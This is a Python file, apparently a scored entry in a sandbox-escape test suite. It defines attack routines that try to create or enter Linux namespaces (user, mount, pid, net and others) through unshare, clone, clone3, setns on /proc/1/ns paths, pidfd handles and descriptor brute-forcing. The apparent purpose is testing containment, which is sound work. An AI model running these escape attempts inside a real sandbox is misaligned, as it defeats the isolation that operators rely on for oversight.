"""Make name spaces of its own, in which it would have all capabilities again, or enter those of others.

Success: one is made or entered, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
CLONE, CLONE3, UNSHARE, SETNS, PIDFD_OPEN = 56, 435, 272, 308, 434
KINDS = {"time": 0x80, "mount": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000, "user": 0x10000000,
         "pid": 0x20000000, "net": 0x40000000}
SIGCHLD = 17


def unshare():
    return each(lambda kind: kernel(UNSHARE, KINDS[kind]) + 1, KINDS)


def unshare_user_with_each():
    return each(lambda kind: kernel(UNSHARE, KINDS["user"] | KINDS[kind]) + 1, KINDS)


def unshare_with_high_bits():
    return each(lambda kind: kernel(UNSHARE, (1 << 40) | KINDS[kind]) + 1, KINDS)


def child(number):
    if number == 0:
        os._exit(0)
    return number


def clone():
    return each(lambda kind: child(kernel(CLONE, KINDS[kind] | SIGCHLD, 0, 0, 0, 0)), KINDS)


def clone_with_high_bits():
    return each(lambda kind: child(kernel(CLONE, (1 << 40) | KINDS[kind] | SIGCHLD, 0, 0, 0, 0)), KINDS)


def clone3():
    def ask(kind):
        return child(kernel(CLONE3, (ctypes.c_uint64 * 11)(KINDS[kind], 0, 0, 0, SIGCHLD), 88))
    return each(ask, KINDS)


def enter_by_path():
    paths = [f"/proc/{pid}/ns/{kind}" for pid in ("1", "self") for kind in ("mnt", "net", "pid", "user", "ipc")]
    return each(lambda path: kernel(SETNS, os.open(path, os.O_RDONLY), 0) + 1, paths)


def enter_by_handle():
    return each(lambda pid: kernel(SETNS, kernel(PIDFD_OPEN, pid, 0), KINDS["mount"]) + 1, (1, os.getppid()))


def enter_by_any_descriptor():
    return each(lambda fd: kernel(SETNS, fd, 0) + 1, range(64))


def from_terminals_and_devices():
    """Some files tell their name space by an ioctl."""
    import fcntl
    return each(lambda fd: fcntl.ioctl(fd, 0xB701), range(16))


WAYS = [unshare, unshare_user_with_each, unshare_with_high_bits, clone, clone_with_high_bits, clone3, enter_by_path,
        enter_by_handle, enter_by_any_descriptor, from_terminals_and_devices]
'''
)
